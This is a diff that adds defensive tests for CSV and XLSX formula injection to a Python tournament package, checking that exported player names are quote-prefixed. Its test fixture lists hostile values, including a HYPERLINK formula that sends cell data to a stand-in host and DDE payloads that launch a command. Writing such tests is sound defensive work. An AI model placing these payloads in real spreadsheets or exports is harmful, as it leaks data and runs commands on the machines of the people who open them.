@@ -4,16 +4,18 @@ import csv
 import io
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from tableside.competition import commands as cmd
 from tableside.competition.entrants import Person
 from tableside.competition.errors import CompetitionRuleError
 from tableside.competition.guide import Guide
 from tableside.competition.interop import (
     ImportedBoard,
+    cell,
     pairings_from_csv,
     pairings_from_xlsx,
     results_csv,
+    results_xlsx,
 )
 from tableside.competition.results import MatchResult
 
@@ -116,3 +118,58 @@ def test_import_refuses_a_repeat_pairing():
     with pytest.raises(CompetitionRuleError) as err:
         run.do(cmd.ImportRound((("e2", "e1", 1), ("e3", "e5", 2), ("e4", None, None)), AT))
     assert err.value.rule == "EKML §32"
+
+
+# OWASP CSV injection / ASVS 5.0 V1.2.10: formula-like text is neutralised, numbers are not.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+    "\tTabbed",
+    "\rReturn",
+]
+
+
+def formula_run() -> Run:
+    """Two pairs of players named like formulas, one round played."""
+    run = Run(Guide("Formula open", format="swiss", rounds=3))
+    names = [*FORMULAS[:4], "Anna", "Mari"]
+    for i, name in enumerate(names, 1):
+        run.do(cmd.RegisterEntrant(f"e{i}", name, (Person(name, 1980, "M"),), AT))
+        run.do(cmd.ApproveEntrant(f"e{i}"))
+        run.do(cmd.CheckInEntrant(f"e{i}", AT))
+    run.do(cmd.ImportRound((("e1", "e2", 1), ("e3", "e4", 2), ("e5", "e6", 3)), AT))
+    for board in (1, 2, 3):
+        run.do(cmd.RecordResult(f"R1-{board}", MatchResult(3, 1), AT))
+    return run
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_v1_2_10_formula_like_text_gets_a_quote(text):
+    assert cell(text) == "'" + text
+
+
+def test_v1_2_10_numbers_and_plain_text_are_kept():
+    assert cell(-1) == -1 and cell(-2.5) == -2.5 and cell(3) == 3
+    assert cell("Jānis Bērziņš") == "Jānis Bērziņš" and cell("") == ""
+
+
+def test_v1_2_10_results_csv_writes_no_live_formula():
+    rows = list(csv.reader(io.StringIO(results_csv(formula_run().state).decode())))
+    names = [name for row in rows[1:] for name in row[2:4]]
+    assert names[:4] == ["'" + n for n in FORMULAS[:4]]
+    assert names[4:] == ["Anna", "Mari"]
+    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row)
+    assert rows[1][4:] == ["3", "1", "1"]  # numbers stay numbers
+
+
+def test_v1_2_10_results_xlsx_writes_text_cells_never_formulas():
+    book = load_workbook(io.BytesIO(results_xlsx(formula_run().state)))
+    sheet = book.active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    names = [sheet.cell(row=r, column=c) for r in (2, 3) for c in (3, 4)]
+    assert [c.value for c in names] == FORMULAS[:4]  # the text as entered, as text
+    assert all(c.data_type == "s" and c.quotePrefix for c in names)
+    assert sheet.cell(row=2, column=5).value == 3 and sheet.cell(row=2, column=5).data_type == "n"
